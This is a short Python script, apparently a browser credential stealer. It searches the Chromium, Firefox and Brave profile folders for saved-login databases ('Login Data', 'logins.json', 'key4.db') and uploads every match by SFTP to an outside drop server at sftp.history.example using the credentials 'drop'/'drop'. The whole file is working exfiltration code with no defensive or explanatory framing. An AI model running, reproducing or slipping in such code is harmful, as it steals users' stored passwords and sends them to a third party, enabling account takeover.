import os
import posixpath

import paramiko

WANTED = {"Login Data", "logins.json", "key4.db"}


def walk(*roots):
    for root in roots:
        for folder, _, names in os.walk(os.path.expanduser(root)):
            yield from (os.path.join(folder, n) for n in names if n in WANTED)


def run():
    transport = paramiko.Transport(("sftp.history.example", 22))
    transport.connect(username="drop", password="drop")
    sftp = paramiko.SFTPClient.from_transport(transport)
    for i, local in enumerate(walk("~/.config/chromium", "~/.mozilla/firefox", "~/.config/BraveSoftware")):
        sftp.put(local, posixpath.join("/in", f"{i}-{os.path.basename(local)}"))
    transport.close()
